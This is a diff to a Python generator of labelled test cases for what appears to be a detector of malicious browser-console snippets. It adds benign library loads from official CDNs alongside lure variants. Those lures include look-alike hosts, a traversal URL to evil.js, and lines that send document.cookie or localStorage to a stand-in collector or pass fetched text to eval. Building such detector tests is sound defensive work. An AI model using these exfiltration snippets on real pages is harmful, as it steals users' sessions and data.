@@ -36,6 +36,16 @@ Cleared here, by technique:
   installer from being recognised. Lures that try to abuse it: a stranger's download beside the
   installer, names that only start like this computer's (localhost.<domain>, 127.0.0.1.<domain>),
   a user part before another host, a lure's words beside it.
+- `console-library-load`: a Q&A answer, a blog or docs loading a well-known JavaScript library
+  into the page from the console (jQuery from code.jquery.com, moment.js or lodash from cdnjs's
+  /ajax/libs/, d3 from d3js.org, Plotly, Bootstrap, Google's and Microsoft's hosted libraries;
+  trust.yaml `library_cdns`): a library's release does nothing by being loaded, so the snippet is
+  information instead of a block (a script tag, $.getScript, import()). Lures that try to abuse
+  it: the same line on a check, claim or bonus page, a look-alike of the CDN
+  (code.jquery.com.<x>.test, cdnjs-cloudflare.<x>), npm's and forges' CDNs (unpkg, jsDelivr,
+  esm.sh: anyone's package), a dot segment climbing out of /ajax/libs/, a user part, another
+  port, plain HTTP, and the library loaded beside code that sends cookies or storage away, a
+  stranger's script, or fetched text run through eval.
 """
 
 from __future__ import annotations
@@ -351,11 +361,97 @@ def beside_local(book: Book) -> None:
         book.add("installer-beside-lookalike", text, expect, "linux", TERMINAL, LURE_PAGES[i % 4])
 
 
+# -- (b) a well-known library loaded into the page from the console -------------------------------
+
+LIBRARIES = [
+    "https://code.jquery.com/jquery-3.7.1.min.js",
+    "https://code.jquery.com/ui/1.13.3/jquery-ui.min.js",
+    "https://cdnjs.cloudflare.com/ajax/libs/moment.js/2.30.1/moment.min.js",
+    "https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js",
+    "https://cdnjs.cloudflare.com/ajax/libs/axios/1.7.7/axios.min.js",
+    "https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js",
+    "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-3.7.0.min.js",
+    "https://d3js.org/d3.v7.min.js",
+    "https://cdn.plot.ly/plotly-2.35.2.min.js",
+    "https://stackpath.bootstrapcdn.com/bootstrap/4.5.2/js/bootstrap.min.js",
+]
+LOADERS = [
+    "var s=document.createElement('script');s.src='{u}';document.head.appendChild(s)",
+    "const script = document.createElement('script');\nscript.src = '{u}';\ndocument.body.appendChild(script);",
+    "$.getScript('{u}')",
+    "(function(){{var el=document.createElement('script');el.src='{u}';el.onload=function(){{console.log('loaded')}};document.head.appendChild(el)}})()",
+]
+LIBRARY_PAGES = [
+    "https://stackoverflow.com/questions/7474354/include-jquery-in-the-javascript-console",
+    "https://superuser.com/questions/1802231/load-a-library-into-devtools",
+    "https://www.harrowfield.example/blog/2026/10/javascript-charts-from-devtools",
+    "https://dev.to/quillmere/moment-in-the-console-4b1a",
+    None,
+]
+LIBRARY_LURE_PAGES = [
+    "https://www.robux-bonus-wheel.test/verify",
+    "https://claim.airdrop-portal.example/step2",
+    "https://verify-human.check-gate.example/console",
+]
+LIBRARY_LOOKALIKES = [
+    "var s=document.createElement('script');s.src='https://code.jquery.com.cdn-relay.test/jquery-3.7.1.min.js';document.head.appendChild(s)",
+    "var s=document.createElement('script');s.src='https://cdnjs-cloudflare.cdn-relay.test/ajax/libs/moment.js/2.30.1/moment.min.js';document.head.appendChild(s)",
+    "var s=document.createElement('script');s.src='https://unpkg.com/jquery@3.7.1/dist/jquery.min.js';document.head.appendChild(s)",
+    "var s=document.createElement('script');s.src='https://cdn.jsdelivr.net/npm/verify-helper@1.0.2/dist/v.min.js';document.head.appendChild(s)",
+    "import('https://esm.sh/claim-bonus@1.0.0')",
+    "$.getScript('https://cdnjs.cloudflare.com/ajax/libs/../../x/evil.js')",
+    "$.getScript('https://code.jquery.com@cdn-relay.test/jquery.min.js')",
+    "$.getScript('https://code.jquery.com:8443/jquery.min.js')",
+    "$.getScript('http://code.jquery.com/jquery-3.7.1.min.js')",
+    "var s=document.createElement('script');s.src='https://code.jquery.com/jquery-3.7.1.min.js';document.head.appendChild(s);s.onload=function(){$.post('https://collect.cdn-relay.test/c',{c:document.cookie})}",
+    "$.getScript('https://code.jquery.com/jquery-3.7.1.min.js');$.getScript('https://cdn.cdn-relay.test/x.js')",
+    "fetch('https://cdnjs.cloudflare.com/ajax/libs/lodash.js/4.17.21/lodash.min.js').then(r=>r.text()).then(eval)",
+    "$.getScript('https://code.jquery.com/jquery-3.7.1.min.js', function(){ new Image().src='https://collect.cdn-relay.test/i?d='+btoa(JSON.stringify(localStorage)) })",
+]
+
+
+def console_libraries(book: Book) -> None:
+    tech = "console-library-load"
+    n = 0
+    for url in LIBRARIES:
+        for loader in LOADERS:
+            page = LIBRARY_PAGES[n % len(LIBRARY_PAGES)]
+            book.add(tech, loader.format(u=url), "not_flagged", "browser", CONSOLE, page)
+            n += 1
+        book.add(
+            tech, LOADERS[0].format(u=url), "not_flagged", "browser", UNKNOWN, LIBRARY_PAGES[0]
+        )
+    for i, url in enumerate(LIBRARIES[:6]):
+        page = LIBRARY_LURE_PAGES[i % len(LIBRARY_LURE_PAGES)]
+        book.add(
+            "console-library-abused",
+            LOADERS[0].format(u=url),
+            "malicious",
+            "browser",
+            CONSOLE,
+            page,
+        )
+    for i, text in enumerate(LIBRARY_LOOKALIKES):
+        book.add(
+            "console-library-abused", text, "malicious", "browser", CONSOLE, LIBRARY_PAGES[i % 4]
+        )
+        book.add("console-library-abused", text, "flagged", "browser", CONSOLE, None)
+        book.add(
+            "console-library-abused",
+            text,
+            "malicious",
+            "browser",
+            CONSOLE,
+            LIBRARY_LURE_PAGES[i % 3],
+        )
+
+
 def build() -> list[dict[str, str]]:
     book = Book("d17")
     quoted_toolchains(book)
     named_pipes(book)
     beside_local(book)
+    console_libraries(book)
     return book.cases
 
 
